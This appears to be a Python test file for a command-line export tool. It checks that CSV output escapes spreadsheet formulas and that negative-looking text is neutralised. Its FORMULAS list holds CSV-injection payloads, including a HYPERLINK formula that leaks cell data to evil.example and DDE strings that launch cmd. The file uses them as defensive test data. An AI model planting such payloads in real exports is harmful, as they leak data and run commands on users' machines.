"""Hostile input from shared files: formulas in exports, bombs in YAML, odd numbers and dates, long paths."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from .conftest import Cli

# -- CSV injection ---------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _actions_file(tmp_path: Path, tasks: list[str], owner: str = "Owner") -> Path:
    rows = "".join(
        f"      - task: {json.dumps(task)}\n        owner: {json.dumps(owner)}\n" for task in tasks
    )
    path = tmp_path / "csv.answers.yml"
    path.write_text(f"answers:\n  implement:\n    actions:\n{rows}", encoding="utf-8")
    return path


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(cli: Cli, tmp_path: Path) -> None:
    path = _actions_file(tmp_path, [*FORMULAS, "Plain task", "a = b"], owner="@owner")
    result = cli("export", str(path), "--table", "actions")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    tasks = [row[0] for row in rows[1:]]
    # Text fields are stripped of outer whitespace when read, so the tab and CR ones lose them.
    assert tasks == [
        "'" + FORMULAS[0],
        "'" + FORMULAS[1],
        "'" + FORMULAS[2],
        "'" + FORMULAS[3],
        "'=1+1",
        "'=1+1",
        "Plain task",
        "a = b",
    ]
    assert {row[1] for row in rows[1:]} == {"'@owner"}
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_json_export_keeps_text_exactly(cli: Cli, tmp_path: Path) -> None:
    path = _actions_file(tmp_path, FORMULAS[:4])
    result = cli("export", str(path), "--table", "actions", "--format", "json")
    assert result.exit_code == 0, result.output
    assert [row["task"] for row in json.loads(result.stdout)] == FORMULAS[:4]


BUDGET_PACK = {
    "pack.yml": "id: budget\nversion: '1'\ntitle: Budget lines\nmode: overlay\nfiles: [budget.yml]\n",
    "budget.yml": """id: implement
questions:
  - id: budget
    label: Budget lines
    type: group
    item: line
    export: budget
    fills: timeline
    prompt: What will it cost?
    fields:
      - id: item
        label: Item
        type: text
        prompt: Item
      - id: amount
        label: Amount
        type: number
        min: -1000
        max: 1000
        prompt: Amount
      - id: notes
        label: Notes
        type: multiline
        prompt: Notes
""",
}


def _budget_pack(tmp_path: Path) -> Path:
    pack = tmp_path / "pack"
    pack.mkdir()
    for name, text in BUDGET_PACK.items():
        (pack / name).write_text(text, encoding="utf-8")
    return pack


def test_negative_numbers_stay_numbers_but_negative_looking_text_does_not(
    cli: Cli, tmp_path: Path
) -> None:
    pack = _budget_pack(tmp_path)
    path = tmp_path / "budget.answers.yml"
    path.write_text(
        "answers:\n  implement:\n    budget:\n"
        "      - {item: '-5', amount: -5, notes: \"\\t=1+1\\n\\r@A1\"}\n"
        "      - {item: Refund, amount: -2.5}\n",
        encoding="utf-8",
    )
    result = cli("export", str(path), "-t", "budget", "--content", str(pack))
    assert result.exit_code == 0, result.output
    assert list(csv.reader(io.StringIO(result.stdout))) == [
        ["Item", "Amount", "Notes"],
        ["'-5", "-5", "'\t=1+1\n\r@A1"],
        ["Refund", "-2.5", ""],
    ]
